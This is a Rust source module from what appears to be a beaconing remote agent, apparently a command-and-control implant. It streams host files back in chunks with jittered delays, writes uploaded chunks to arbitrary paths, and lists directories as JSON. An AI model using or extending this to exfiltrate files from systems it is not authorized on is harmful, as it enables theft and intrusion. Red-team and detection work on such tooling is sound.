//! File-transfer tasks: chunked download (41), append-based upload (42),
//! and the JSON directory listing (43).

use std::path::{Path, PathBuf};

use serde::Serialize;
use tokio_util::sync::CancellationToken;

use crate::agent::Agent;
use crate::config::jittered_delay;
use crate::error::TaskError;
use crate::packet::ResponseChannel;
use crate::tasks::TaskKind;
use crate::transfer::{self, FileSender};

/// Body of a type-43 response.
#[derive(Debug, Serialize)]
struct DirectoryListing {
    directory_name: String,
    directory_path: String,
    items: Vec<DirectoryItem>,
}

#[derive(Debug, Serialize)]
struct DirectoryItem {
    path: String,
    name: String,
    is_file: bool,
}

impl Agent {
    /// Task 41: expand the path and stream every file as codec-encoded parts,
    /// one type-41 response per part, under a tracked job so the inter-part
    /// sleeps never block the check-in loop.
    pub(crate) async fn handle_file_download(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let files = transfer::expand_paths(Path::new(data.trim())).await?;

        let responses = self.responses.clone();
        let correlation_id = id.to_string();
        let chunk_size = self.config.chunk_size;
        let delay = self.config.delay;
        let jitter = self.config.jitter;

        self.jobs
            .start(id, "download", move |cancel| async move {
                send_files(
                    files,
                    chunk_size,
                    delay,
                    jitter,
                    responses,
                    correlation_id,
                    cancel,
                )
                .await;
            })
            .await?;
        Ok(())
    }

    /// Task 42: body `"{path}|{base64_chunk}"`; append-receive one chunk.
    pub(crate) async fn handle_file_upload(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let (path, chunk) = data
            .split_once('|')
            .ok_or_else(|| TaskError::Malformed("expected \"path|base64\" upload body".into()))?;

        transfer::receive_chunk(path, chunk).await?;
        self.responses
            .send(
                TaskKind::FileUpload.code(),
                &format!("upload of {path} successful"),
                id,
            )
            .await?;
        Ok(())
    }

    /// Task 43: single-level listing of a directory as JSON.
    pub(crate) async fn handle_directory_list(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let path = normalize_list_path(data);

        let meta = tokio::fs::metadata(&path).await;
        if !meta.map(|m| m.is_dir()).unwrap_or(false) {
            self.responses
                .send(
                    TaskKind::DirectoryList.code(),
                    &format!("directory {path} not found"),
                    id,
                )
                .await?;
            return Ok(());
        }

        let mut items = Vec::new();
        let mut entries = tokio::fs::read_dir(&path).await?;
        while let Some(entry) = entries.next_entry().await? {
            let is_file = entry.file_type().await.map(|t| t.is_file()).unwrap_or(false);
            items.push(DirectoryItem {
                path: entry.path().to_string_lossy().into_owned(),
                name: entry.file_name().to_string_lossy().into_owned(),
                is_file,
            });
        }
        items.sort_by(|a, b| a.name.cmp(&b.name));

        let listing = DirectoryListing {
            directory_name: directory_name(&path),
            directory_path: path,
            items,
        };
        let body = serde_json::to_string(&listing)
            .map_err(|e| TaskError::Malformed(format!("listing serialization failed: {e}")))?;
        self.responses
            .send(TaskKind::DirectoryList.code(), &body, id)
            .await?;
        Ok(())
    }
}

/// Empty body defaults to the filesystem root; trailing slashes are stripped
/// for uniformity and relative paths are anchored at the root.
fn normalize_list_path(raw: &str) -> String {
    let trimmed = raw.trim();
    if trimmed.is_empty() || trimmed == "/" {
        return "/".to_string();
    }
    let stripped = trimmed.trim_end_matches('/');
    if stripped.starts_with('/') {
        stripped.to_string()
    } else {
        format!("/{stripped}")
    }
}

fn directory_name(path: &str) -> String {
    if path == "/" {
        return "/".to_string();
    }
    path.rsplit('/').next().unwrap_or(path).to_string()
}

/// The download job body: one sender per file, a jittered sleep between
/// parts, and a cancellation checkpoint at every suspension.
async fn send_files(
    files: Vec<PathBuf>,
    chunk_size: usize,
    delay: u64,
    jitter: f64,
    responses: ResponseChannel,
    correlation_id: String,
    cancel: CancellationToken,
) {
    for file in files {
        if cancel.is_cancelled() {
            return;
        }
        if let Err(e) = send_one_file(
            &file,
            chunk_size,
            delay,
            jitter,
            &responses,
            &correlation_id,
            &cancel,
        )
        .await
        {
            tracing::warn!(file = %file.display(), "Download failed: {e}");
            if let Err(send_err) = responses
                .send_error(
                    &format!("download of {} failed: {e}", file.display()),
                    &correlation_id,
                )
                .await
            {
                tracing::warn!("Failed to report download error: {send_err}");
            }
        }
    }
}

async fn send_one_file(
    file: &Path,
    chunk_size: usize,
    delay: u64,
    jitter: f64,
    responses: &ResponseChannel,
    correlation_id: &str,
    cancel: &CancellationToken,
) -> Result<(), TaskError> {
    let mut sender = FileSender::open(file, chunk_size).await?;
    while let Some(part) = sender.next_part().await? {
        responses
            .send(TaskKind::FileDownload.code(), &part.render(), correlation_id)
            .await?;

        tokio::select! {
            _ = cancel.cancelled() => return Ok(()),
            _ = tokio::time::sleep(jittered_delay(delay, jitter)) => {}
        }
    }
    Ok(())
}
